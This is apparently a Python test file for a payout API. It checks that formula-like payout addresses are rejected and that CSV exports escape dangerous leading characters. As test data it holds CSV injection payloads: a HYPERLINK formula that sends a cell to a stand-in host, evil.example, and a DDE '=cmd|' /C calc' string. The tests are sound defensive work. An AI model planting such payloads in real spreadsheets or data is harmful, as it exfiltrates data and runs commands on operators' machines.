"""Issue 14 item 18: payout addresses were not validated; CSV exports carried formulas.

The attack: a contributor onboarded with the payout address
``=HYPERLINK("http://evil.example/?"&A1,"click")``; the operator's payout CSV
carried it verbatim, and a spreadsheet runs it.  What must hold: a payout address
must match ``PROVERPOOL_PAYOUT_ADDRESS_PATTERN`` (default ``0x`` + 40 hex digits)
wherever it is set (422 otherwise, nothing stored, the invite not spent), and every
CSV export (payout batches and statements, over HTTP and ``proverpool ledger``)
prefixes a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return with ``'``, so that a bad value already in the database comes out inert.
"""

from __future__ import annotations

import csv
import io

from sqlalchemy import update
from sqlmodel import Session, func, select
from typer.testing import CliRunner

import accounting
from pool_api.cli.app import app as cli
from pool_api.store.models import Contributor

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
GOOD = "0x" + "ab" * 20


def _contributors(api) -> int:
    with Session(api.state.engine) as session:
        return int(session.exec(select(func.count()).select_from(Contributor)).one())


def test_a_formula_address_is_refused_at_onboarding(api):
    invite = api.client.post("/v1/invites", headers=api.operator).json()["invite"]
    for address in (FORMULA, "0xabc", "0x" + "g" * 40, GOOD + "\n", " " + GOOD):
        body = {"invite": invite, "name": "mallory", "payout_address": address}
        answer = api.client.post("/v1/contributors", json=body)
        assert answer.status_code == 422, (address, answer.text)
        assert address.strip() not in answer.text  # not echoed back
    operator_made = {"name": "mallory", "payout_address": FORMULA}
    assert (
        api.client.post("/v1/contributors", json=operator_made, headers=api.operator).status_code
        == 422
    )
    assert _contributors(api) == 0
    # The invite was not spent: the same invite with a good address works.
    body = {"invite": invite, "name": "mallory", "payout_address": GOOD}
    assert api.client.post("/v1/contributors", json=body).status_code == 201


def test_the_pattern_is_configurable(make_api):
    api = make_api(payout_address_pattern=r"^bc1[a-z0-9]{20,60}$")
    body = {"name": "satoshi", "payout_address": "bc1" + "q" * 39}
    assert api.client.post("/v1/contributors", json=body, headers=api.operator).status_code == 201
    body = {"name": "vitalik", "payout_address": GOOD}
    assert api.client.post("/v1/contributors", json=body, headers=api.operator).status_code == 422


def test_a_legacy_formula_address_comes_out_escaped_in_every_csv(api, db_url):
    created = api.client.post(
        "/v1/contributors", json={"name": "legacy", "payout_address": GOOD}, headers=api.operator
    ).json()
    cid = created["id"]
    engine = api.state.engine
    with Session(engine) as session:  # a value stored before addresses were validated
        legacy = update(Contributor).where(Contributor.id == cid).values(payout_address=FORMULA)
        session.connection().execute(legacy)
        accounting.credit_work(
            session, credit_id="j:1", contributor_id=cid, job_ref="=cmd|' /C calc'!A0", work_units=5
        )
        accounting.post_reward(
            session, reward_id="+reward", job_ref="=cmd|' /C calc'!A0", amount_units=5000, fee_bps=0
        )
        session.commit()
    key = {"Authorization": f"Bearer {created['api_key']}"}
    withdrawal = {"amount_units": 2000, "idempotency_key": "@w"}
    assert api.client.post("/v1/withdrawals", json=withdrawal, headers=key).status_code == 201
    batch = api.client.post("/v1/payout-batches", json={"batch_id": "-b1"}, headers=api.operator)
    assert batch.status_code == 201, batch.text

    exported = api.client.get(
        "/v1/payout-batches/-b1/export", params={"format": "csv"}, headers=api.operator
    )
    assert exported.status_code == 200, exported.text
    (row,) = csv.DictReader(io.StringIO(exported.text))
    assert row["address"] == "'" + FORMULA
    assert row["batch_id"] == "'-b1"
    assert row["amount_units"] == "2000"
    as_json = api.client.get("/v1/payout-batches/-b1/export", headers=api.operator).json()
    assert as_json[0]["address"] == FORMULA  # JSON is data, not a spreadsheet: unchanged

    statement = api.client.get(
        f"/v1/contributors/{cid}/statement", params={"format": "csv"}, headers=api.operator
    )
    assert statement.status_code == 200
    lines = list(csv.DictReader(io.StringIO(statement.text)))
    assert "'=cmd|' /C calc'!A0" in {line["job_ref"] for line in lines}
    assert any(line["reward_id"].startswith("'+reward") for line in lines)
    assert any(line["amount_units"].startswith("-") for line in lines)  # numbers stay numbers
    for text in (exported.text, statement.text):
        for cell in (c for r in csv.reader(io.StringIO(text)) for c in r):
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell

    printed = CliRunner().invoke(cli, ["ledger", "statement", str(cid), "--database-url", db_url])
    assert printed.exit_code == 0, printed.output
    assert "'=cmd" in printed.output and ",=cmd" not in printed.output
